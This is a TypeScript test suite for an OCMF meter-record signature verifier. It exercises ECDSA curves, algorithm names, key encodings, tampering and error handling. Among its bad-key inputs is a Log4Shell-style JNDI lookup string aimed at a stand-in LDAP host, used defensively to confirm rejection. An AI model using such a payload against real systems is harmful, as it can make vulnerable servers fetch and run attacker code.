import { generateKeyPairSync, sign, type KeyObject } from 'node:crypto';
import { verifyOcmfSignature } from './index';

interface TestMeter {
  readonly publicKey: KeyObject;
  readonly privateKey: KeyObject;
}

const meters = new Map<string, TestMeter>();
/** One key pair per curve for the whole file; generating keys is the slow part. */
function meterOn(curve: string): TestMeter {
  const existing = meters.get(curve);
  if (existing !== undefined) return existing;
  const meter = generateKeyPairSync('ec', { namedCurve: curve });
  meters.set(curve, meter);
  return meter;
}

const spkiHex = (key: KeyObject): string => key.export({ format: 'der', type: 'spki' }).toString('hex').toUpperCase();
const spkiBase64 = (key: KeyObject): string => key.export({ format: 'der', type: 'spki' }).toString('base64');

const PAYLOAD =
  '{"FV":"1.0","GI":"Test","GS":"GW-7","PG":"T3","MS":"MTR-1","IS":false,"RD":[' +
  '{"TM":"2024-05-01T10:00:00,000+0200 S","TX":"B","RV":12.345,"RI":"1-b:1.8.0","RU":"kWh","EF":"","ST":"G"}]}';

/** A record signed by `meter`; `section` lets a test add or override SA, SE, SM and SD. */
function signedRecord(meter: TestMeter, section: Record<string, string> = {}, payload = PAYLOAD, hash = 'sha256'): string {
  const der = sign(hash, Buffer.from(payload, 'utf8'), { key: meter.privateKey, dsaEncoding: 'der' });
  const sd = section['SE'] === 'base64' ? der.toString('base64') : der.toString('hex').toUpperCase();
  return `OCMF|${payload}|${JSON.stringify({ SD: sd, ...section })}`;
}

describe('verifyOcmfSignature', () => {
  it.each([
    ['prime256v1', 'ECDSA-secp256r1-SHA256'],
    ['secp256k1', 'ECDSA-secp256k1-SHA256'],
    ['secp384r1', 'ECDSA-secp384r1-SHA256'],
    ['brainpoolP256r1', 'ECDSA-brainpool256r1-SHA256'],
    ['brainpoolP384r1', 'ECDSA-brainpool384r1-SHA256'],
  ])('accepts a record signed on %s with SA %s', (curve, sa) => {
    const meter = meterOn(curve);
    expect(verifyOcmfSignature(signedRecord(meter, { SA: sa }), spkiHex(meter.publicKey))).toBe('valid');
  });

  /** Every SA spelling the OCMF tables and the S.A.F.E. Transparenzsoftware accept, with the curve it names. */
  it.each([
    ['secp192k1', 'ECDSA-secp192k1-SHA256'],
    ['prime192v1', 'ECDSA-secp192r1-SHA256'],
    ['secp224k1', 'ECDSA-secp224k1-SHA256'],
    ['secp224r1', 'ECDSA-secp224r1-SHA256'],
    ['secp521r1', 'ECDSA-secp521r1-SHA256'],
    ['brainpoolP256r1', 'ECDSA-brainpoolP256r1-SHA256'],
    ['brainpoolP256r1', 'ECDSA-brainpoolp256r1-SHA256'],
    ['brainpoolP256r1', 'ECDSA-BRAINPOOL256R1-SHA256'],
    ['brainpoolP384r1', 'ECDSA-brainpoolP384r1-SHA256'],
    ['brainpoolP192r1', 'ECDSA-brainpool192r1-SHA256'],
    ['brainpoolP224r1', 'ECDSA-brainpoolP224r1-SHA256'],
    ['brainpoolP320r1', 'ECDSA-brainpool320r1-SHA256'],
    ['brainpoolP512r1', 'ECDSA-brainpoolP512r1-SHA256'],
    ['brainpoolP256t1', 'ECDSA-brainpool256t1-SHA256'],
    ['prime256v1', 'ECDSA-SECP256R1-SHA256'],
  ])('accepts a record signed on %s with SA %s', (curve, sa) => {
    const meter = meterOn(curve);
    expect(verifyOcmfSignature(signedRecord(meter, { SA: sa }), spkiHex(meter.publicKey))).toBe('valid');
  });

  it.each([
    ['prime256v1', 'ECDSA-secp256r1-SHA512'],
    ['secp384r1', 'ECDSA-secp384r1-SHA512'],
    ['secp521r1', 'ECDSA-secp521r1-SHA512'],
    ['brainpoolP384r1', 'ECDSA-brainpool384r1-SHA512'],
  ])('verifies a %s record under the SHA512 that SA %s names, and under nothing else', (curve, sa) => {
    const meter = meterOn(curve);
    expect(verifyOcmfSignature(signedRecord(meter, { SA: sa }, PAYLOAD, 'sha512'), spkiHex(meter.publicKey))).toBe('valid');
    expect(verifyOcmfSignature(signedRecord(meter, { SA: sa }, PAYLOAD, 'sha256'), spkiHex(meter.publicKey))).toBe('invalid');
    expect(verifyOcmfSignature(signedRecord(meter, { SA: sa.replace('SHA512', 'SHA256') }, PAYLOAD, 'sha512'), spkiHex(meter.publicKey))).toBe('invalid');
  });

  it('does not let a forgiving SA spelling change the curve: a brainpool signature fails under a secp256r1 key', () => {
    const text = signedRecord(meterOn('brainpoolP256r1'), { SA: 'ECDSA-brainpoolP256r1-SHA256' });
    expect(verifyOcmfSignature(text, spkiHex(meterOn('prime256v1').publicKey))).toBe('invalid');
  });

  it('takes secp256r1 when SA is absent', () => {
    const meter = meterOn('prime256v1');
    expect(verifyOcmfSignature(signedRecord(meter), spkiHex(meter.publicKey))).toBe('valid');
  });

  it('accepts SD in base64 when SE says so, and the explicit default SM', () => {
    const meter = meterOn('prime256v1');
    const text = signedRecord(meter, { SE: 'base64', SM: 'application/x-der' });
    expect(verifyOcmfSignature(text, spkiHex(meter.publicKey))).toBe('valid');
  });

  it.each([
    ['upper-case hex', (key: KeyObject): string => spkiHex(key)],
    ['lower-case hex', (key: KeyObject): string => spkiHex(key).toLowerCase()],
    ['hex in groups of four', (key: KeyObject): string => spkiHex(key).replace(/(.{4})/g, '$1 ').trim()],
    ['base64', spkiBase64],
    ['base64 broken over lines', (key: KeyObject): string => spkiBase64(key).replace(/(.{20})/g, '$1\n')],
  ])('reads the public key as %s', (_format, encode) => {
    const meter = meterOn('prime256v1');
    expect(verifyOcmfSignature(signedRecord(meter), encode(meter.publicKey))).toBe('valid');
  });

  it('is invalid under another meter key on the same curve', () => {
    const other = generateKeyPairSync('ec', { namedCurve: 'prime256v1' }).publicKey;
    expect(verifyOcmfSignature(signedRecord(meterOn('prime256v1')), spkiHex(other))).toBe('invalid');
  });

  it('is invalid when the key lies on another curve than SA names', () => {
    const text = signedRecord(meterOn('secp256k1'), { SA: 'ECDSA-secp256k1-SHA256' });
    expect(verifyOcmfSignature(text, spkiHex(meterOn('prime256v1').publicKey))).toBe('invalid');
  });

  it('is invalid when the key is not an EC key at all', () => {
    const ed25519 = generateKeyPairSync('ed25519').publicKey;
    expect(verifyOcmfSignature(signedRecord(meterOn('prime256v1')), spkiHex(ed25519))).toBe('invalid');
  });

  it('is invalid once the payload changes, even by white space only', () => {
    const meter = meterOn('prime256v1');
    const text = signedRecord(meter).replace('"PG":"T3"', '"PG" : "T3"');
    expect(verifyOcmfSignature(text, spkiHex(meter.publicKey))).toBe('invalid');
  });

  it('stays valid when only the unsigned signature section is re-spaced', () => {
    const meter = meterOn('prime256v1');
    const text = signedRecord(meter).replace('{"SD":', '{ "SD" : ');
    expect(verifyOcmfSignature(text, spkiHex(meter.publicKey))).toBe('valid');
  });

  it.each([
    ['not hex', { SD: 'XYZ0' }],
    ['of odd length', { SD: '304' }],
    ['empty', { SD: '' }],
    ['not DER', { SD: 'ABCDEF' }],
    ['not base64', { SE: 'base64', SD: '***' }],
  ])('is invalid when SD is %s', (_case, section) => {
    const meter = meterOn('prime256v1');
    expect(verifyOcmfSignature(signedRecord(meter, section), spkiHex(meter.publicKey))).toBe('invalid');
  });

  it.each([
    ['a JNDI lookup', '${jndi:ldap://example.invalid/a}3059301306072A8648CE3D0201'],
    ['an empty string', ''],
    ['hex that is no key', '3059301306072A'],
    ['base64 that is no key', 'aGVsbG8gd29ybGQ='],
    ['a megabyte of hex', 'A'.repeat(1_000_000)],
  ])('answers bad-key, without throwing, for %s', (_case, key) => {
    expect(verifyOcmfSignature(signedRecord(meterOn('prime256v1')), key)).toBe('bad-key');
  });

  it('answers bad-key for a private key in place of the public one', () => {
    const meter = meterOn('prime256v1');
    const pkcs8 = meter.privateKey.export({ format: 'der', type: 'pkcs8' }).toString('hex');
    expect(verifyOcmfSignature(signedRecord(meter), pkcs8)).toBe('bad-key');
  });

  it('answers bad-key for a bad key before it reads the record', () => {
    expect(verifyOcmfSignature('not a record', '${jndi:ldap://example.invalid/a}')).toBe('bad-key');
  });

  it.each([
    ['SA', { SA: 'ECDSA-secp160r1-SHA256' }],
    ['SA', { SA: 'ECDSA-brainpoolP160r1-SHA256' }],
    ['SA', { SA: 'ECDSA-secp256r1-SHA1' }],
    ['SA', { SA: 'ECDSA-secp256r1' }],
    ['SA', { SA: 'ecdsa-secp256r1-SHA256' }],
    ['SA', { SA: 'ECDSA-prime256v1-SHA256' }],
    ['SA', { SA: 'RSA-SHA256' }],
    ['SE', { SE: 'base32' }],
    ['SM', { SM: 'application/json' }],
  ])('throws UNSUPPORTED_ALGORITHM naming %s for %j', (field, section) => {
    const meter = meterOn('prime256v1');
    expect(() => verifyOcmfSignature(signedRecord(meter, section), spkiHex(meter.publicKey))).toThrow(
      expect.objectContaining({ name: 'OcmfError', code: 'UNSUPPORTED_ALGORITHM', field }),
    );
  });

  it('throws MALFORMED for text that is not an OCMF record', () => {
    const key = spkiHex(meterOn('prime256v1').publicKey);
    expect(() => verifyOcmfSignature('OCMF|{}', key)).toThrow(expect.objectContaining({ code: 'MALFORMED' }));
  });
});
